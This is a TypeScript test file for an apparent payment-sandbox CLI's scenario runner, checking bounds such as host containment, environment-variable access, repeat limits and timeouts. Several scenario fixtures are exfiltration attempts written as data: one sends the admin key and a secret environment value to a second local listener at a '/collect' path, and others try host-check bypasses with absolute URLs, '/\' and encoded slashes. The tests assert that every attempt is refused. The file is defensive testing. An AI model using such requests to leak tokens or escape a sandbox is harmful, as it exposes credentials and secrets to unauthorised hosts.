// payctl scenario run holds a file to its bounds, over a real server: a step never
// reaches another host (a second listener on 127.0.0.1 must receive nothing: not the
// admin token, the sandbox's key or an environment value); ${env.NAME} reads only what
// the run allows; recorded text replays as it was recorded ($${ escapes); nested repeats
// are refused before anything runs; a step ends within its timeout, a stream too;
// expect_webhooks sees webhooks from before its step; an unknown key gets "did you mean";
// --url makes no database in the current folder.
import '../helpers/env.js';
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { existsSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse, stringify } from 'yaml';
import { runCli } from '../helpers/cli.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { ADMIN, newSandbox, noonToday } from '../helpers/sandboxes.js';
import { saleBody } from '../helpers/bodies.js';

let s: TestServer;
let other: Server;
let otherPort: number;
const received: string[] = [];
const dir = mkdtempSync(path.join(tmpdir(), 'payctl-scenario-safety-'));

before(async () => {
  s = await startTestServer({ adminToken: ADMIN });
  other = createServer((req, res) => {
    received.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
    res.end('{}');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherPort = (other.address() as AddressInfo).port;
});
after(async () => {
  await new Promise((resolve) => other.close(resolve));
  await s.close();
});

const run = (args: string[], env: Record<string, string> = {}) => runCli(['scenario', 'run', ...args, '--url', s.url, '--admin-token', ADMIN], { db: s.dbPath, env });
const sandboxCount = async () => (await s.call('GET', '/api/v1/sandboxes', { key: ADMIN })).body.data.length;
const write = (name: string, lines: string[]) => {
  const file = path.join(dir, name);
  writeFileSync(file, `${lines.join('\n')}\n`);
  return file;
};
const said = (r: { stderr: string }) => r.stderr.replace(/\s*›\s*/g, ' ');
const SALE = [
  '    body:',
  '      type: sale',
  '      source: api',
  '      currency: USD',
  '      email_address: ada@example.com',
  '      email_receipt: false',
  '      processor_id: "${sandbox.processor_id}"',
  '      amounts: { requested_amount: 1000 }',
  '      billing_address: { first_name: Ada, last_name: Lovelace, line_1: 1 Main St, city: Springfield, subdivision: IL, postal_code: "62701", country: US, email: ada@example.com }',
  '      payment_details: { token: tok_visa }',
];

test('a step to //127.0.0.1:<other port> with the admin key and an env value is refused with its line; the other listener receives nothing', async () => {
  const file = write('exfiltrate.yaml', ['name: send the keys elsewhere', 'steps:', `  - request: GET //127.0.0.1:${otherPort}/collect?v=\${env.SECRET}`, '    key: admin']);
  const before = await sandboxCount();
  const r = await run([file, '--env', 'SECRET'], { SECRET: 'the-environment-value' });
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(said(r), /exfiltrate\.yaml:3:14 steps\.0\.request: starts with \/\/, which names another host: a request's path is a path on the server under test/);
  assert.match(said(r), /Nothing was run/);
  assert.deepEqual(received, []);
  assert.equal(await sandboxCount(), before, 'no sandbox is made');
});

test('absolute URLs, /\\host, encoded slashes: each refused at its line; a reference cannot add a host either', async () => {
  const file = write('elsewhere.yaml', [
    'name: other ways out',
    'steps:',
    `  - request: POST http://127.0.0.1:${otherPort}/a`,
    `  - request: GET /\\127.0.0.1:${otherPort}/b`,
    `  - request: GET /%2F127.0.0.1:${otherPort}/c`,
  ]);
  const r = await run([file]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(said(r), /elsewhere\.yaml:3:14 steps\.0\.request: is an absolute URL/);
  assert.match(said(r), /elsewhere\.yaml:4:14 steps\.1\.request: starts with \/\\, which names another host/);
  assert.match(said(r), /elsewhere\.yaml:5:14 steps\.2\.request: has an encoded \/ or \\ \(%2F, %5C\)/);

  // A reference's value is one encoded segment: the request stays on the server under test.
  const hop = write('hop.yaml', ['name: a value that looks like a host', 'steps:', '  - request: GET /${env.PAYCTL_SCENARIO_HOP}', '    key: admin', '    expect: { status: 404 }']);
  const ran = await run([hop, '--json'], { PAYCTL_SCENARIO_HOP: `/127.0.0.1:${otherPort}/collect` });
  assert.equal(ran.code, 0, ran.stdout + ran.stderr);
  assert.deepEqual(received, []);
});

test('${env.NAME}: only names passed with --env or carrying PAYCTL_SCENARIO_; the admin token never unless named', async () => {
  const file = write('env.yaml', ['name: env', 'steps:', '  - request: POST /api/v1/groups/{group_id}/transaction', ...SALE, '      description: "${env.HOME} ${env.PAYCTL_ADMIN_TOKEN}"']);
  const before = await sandboxCount();
  const refused = await run([file], { HOME: '/home/someone', PAYCTL_ADMIN_TOKEN: ADMIN });
  assert.equal(refused.code, 1, refused.stdout + refused.stderr);
  assert.match(said(refused), /env\.yaml:3:5 steps\.0: refers to \$\{env\.HOME\}, which this run may not read: pass --env HOME to allow it, or name the variable PAYCTL_SCENARIO_HOME/);
  assert.match(said(refused), /refers to \$\{env\.PAYCTL_ADMIN_TOKEN\}, which this run may not read/);
  assert.equal(await sandboxCount(), before);

  const allowed = write('env-ok.yaml', ['name: env', 'steps:', '  - request: POST /api/v1/groups/{group_id}/transaction', ...SALE, '      description: "${env.HOME} ${env.PAYCTL_SCENARIO_ORDER}"', '    expect: { body: { description: /home/someone o-17 } }']);
  const r = await run([allowed, '--env', 'HOME'], { HOME: '/home/someone', PAYCTL_SCENARIO_ORDER: 'o-17' });
  assert.equal(r.code, 0, r.stdout + r.stderr);
});

test('a recorded description "order ${env.HOME}" replays as that literal text', async () => {
  const sb = await newSandbox(s, { clock: noonToday() });
  const rec = `/api/v1/sandboxes/${sb.group_id}/recording`;
  const key = sb.keys.manage_transactions!;
  assert.equal((await s.call('POST', rec, { key })).status, 201);
  const sale = await s.call('POST', `/api/v1/groups/${sb.group_id}/transaction`, { key, body: { ...saleBody(sb.processor_id), description: 'order ${env.HOME}' } });
  assert.equal(sale.status, 200, sale.text);
  assert.equal((await s.call('DELETE', rec, { key })).status, 200);
  const yaml = (await s.call('GET', `${rec}?format=scenario`, { key })).text;
  assert.match(yaml, /description: order \$\$\{env\.HOME\}/);
  // The replay must store exactly what was recorded: checked on its answer.
  const scenario = parse(yaml);
  scenario.steps[0].expect = { status: 200, body: { description: 'order $${env.HOME}' } };
  const file = write('recorded.yaml', [stringify(scenario)]);
  const r = await run([file], { HOME: '/home/replayer' });
  assert.equal(r.code, 0, r.stdout + r.stderr);
});

test('nested repeats of 1000×1000×1000 are refused before anything runs, naming the line and the bound', async () => {
  const file = write('cube.yaml', ['name: cube', 'steps:', '  - repeat: 1000', '    steps:', '      - repeat: 1000', '        steps:', '          - repeat: 1000', '            steps: [{ clock: { advance: 1s } }]']);
  const before = await sandboxCount();
  const r = await run([file]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(said(r), /cube\.yaml:5:17 steps\.0\.steps\.0\.repeat: runs its steps 1000000 times with the repeats around it; nested repeats run at most 10000 times in product/);
  assert.equal(await sandboxCount(), before);
});

test('a step that gets no answer within its timeout fails saying so; --step-timeout sets the run\'s; the run stops there', { timeout: 120_000 }, async () => {
  const lines = (timeout: string[]) => ['name: slow', 'steps:', '  - fault: { operation: sale, action: latency, ms: 5000, first: 1 }', '  - request: POST /api/v1/groups/{group_id}/transaction', ...SALE, ...timeout, '  - clock: { advance: 1d }'];
  const own = await run([write('slow.yaml', lines(['    timeout: 1s']))]);
  assert.equal(own.code, 1, own.stdout + own.stderr);
  assert.match(own.stdout, /✗ request +no answer within 1s \(the step's timeout/);
  assert.doesNotMatch(own.stdout, /clock advance/);
  const runWide = await run([write('slow-run.yaml', lines([])), '--step-timeout', '2s']);
  assert.equal(runWide.code, 1, runWide.stdout + runWide.stderr);
  assert.match(runWide.stdout, /no answer within 2s/);
  const bad = await run([write('ok.yaml', ['name: ok', 'steps:', '  - clock: { advance: 1d }']), '--step-timeout', '1h']);
  assert.equal(bad.code, 2, bad.stdout + bad.stderr);
  assert.match(said(bad), /--step-timeout 1h: must be a duration from 1s to 10m/);
});

test('a request on a stream ends: when what came holds expect.body, else at the step\'s timeout, its messages being the body', { timeout: 120_000 }, async () => {
  const file = write('stream.yaml', [
    'name: streams end',
    'steps:',
    '  - request: GET /api/v1/groups/{group_id}/events/stream',
    '    expect: { body: [{ event: ready }] }',
    '  - request: GET /api/v1/groups/{group_id}/events/stream',
    '    timeout: 1s',
    '    save: stream',
    '  - request: GET /api/v1/groups/{group_id}/events?limit=1',
    '    headers: { X-First-Message: "${stream.0.event}" }',
  ]);
  const r = await run([file, '--json']);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  const [result] = JSON.parse(r.stdout);
  assert.ok(result.steps[0].ms < 30_000, `ended when the ready message came, not at the 30s timeout (${result.steps[0].ms} ms)`);
  assert.ok(result.steps[1].ms >= 900, `read until its 1s timeout (${result.steps[1].ms} ms)`);
  assert.equal(result.steps[2].ok, true, 'the saved messages are referenced');
});

test('expect_webhooks sees webhooks from before its step: the receiver exists from the first step', { timeout: 120_000 }, async () => {
  const file = write('late-webhooks.yaml', ['name: late', 'steps:', '  - request: POST /api/v1/groups/{group_id}/transaction', ...SALE, '    save: sale', '  - expect_webhooks: [{ type: transaction.approved, count: 1, match: { data.object.id: "${sale.id}" }, timeout: 15s }]']);
  const r = await run([file]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /✓ expect_webhooks +webhooks transaction\.approved ×1/);
});

test('an unknown step key gets "did you mean"', async () => {
  const file = write('typo.yaml', ['name: typo', 'steps:', '  - reqest: GET /api/v1/sandboxes', '  - request: GET /api/v1/sandboxes', '    bdy: {}']);
  const r = await run([file]);
  assert.equal(r.code, 1);
  assert.match(said(r), /typo\.yaml:3:5 steps\.0: must have one of request, .* \(did you mean request\?\)/);
  assert.match(said(r), /typo\.yaml:5:5 steps\.1\.bdy: is not a field here \(did you mean body\?\)/);
});

test('scenario run --url makes no database (.payctl) in the current folder', async () => {
  const cwd = mkdtempSync(path.join(tmpdir(), 'payctl-scenario-cwd-'));
  writeFileSync(path.join(cwd, 'tick.yaml'), 'name: tick\nsteps:\n  - clock: { advance: 1d }\n');
  const env = Object.fromEntries(Object.keys(process.env).filter((k) => k.startsWith('PAYCTL_') && k !== 'PAYCTL_ADMIN_TOKEN').map((k) => [k, '']));
  const r = await runCli(['scenario', 'run', 'tick.yaml', '--url', s.url, '--admin-token', ADMIN], { cwd, env });
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.ok(!existsSync(path.join(cwd, '.payctl')), `made: ${readdirSync(cwd).join(', ')}`);
  const withGroup = await runCli(['scenario', 'run', 'tick.yaml', '--url', s.url, '--group', 'g'], { cwd, env });
  assert.equal(withGroup.code, 2, withGroup.stdout + withGroup.stderr);
  assert.match(said(withGroup), /--group with --url makes the run's key on that server's database: name it with --db/);
  assert.deepEqual(readdirSync(cwd), ['tick.yaml']);
});
